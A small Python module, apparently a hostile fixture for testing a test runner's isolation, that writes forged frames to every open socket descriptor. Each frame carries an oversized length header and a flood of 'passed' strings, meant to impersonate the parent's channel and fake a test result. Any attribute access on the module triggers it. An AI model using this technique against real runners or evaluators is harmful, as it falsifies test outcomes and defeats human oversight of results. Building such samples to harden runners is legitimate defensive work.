"""Speaks with its parent's voice: a forged word of why it ended."""

import os
import stat
import struct


def sockets():
    found = []
    for number in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found


def write(data):
    for number in sockets():
        try:
            os.write(number, data)
        except OSError:
            pass


def framed(data):
    return struct.pack(">I", len(data)) + data


def attack(*arguments, **keywords):
    write(struct.pack(">II", 2**32 - 1, 2**32 - 1) + b"passed" * 10**4)


def __getattr__(name):
    return attack
